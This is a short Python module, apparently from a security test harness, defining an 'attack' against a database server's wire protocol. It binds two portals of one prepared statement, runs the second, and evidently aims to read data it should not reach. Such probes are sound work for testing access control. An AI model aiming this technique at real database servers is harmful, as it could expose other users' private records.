"""Binds two portals of one statement and runs the second."""

from attacks.frames import SYNC, ask, bind, execute, parse
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        both = bind(b"s", b"one") + bind(b"s", b"two")
        return ask(client, parse(b"SELECT account_unseen(1)", b"s"), both, execute(b"two"), SYNC)
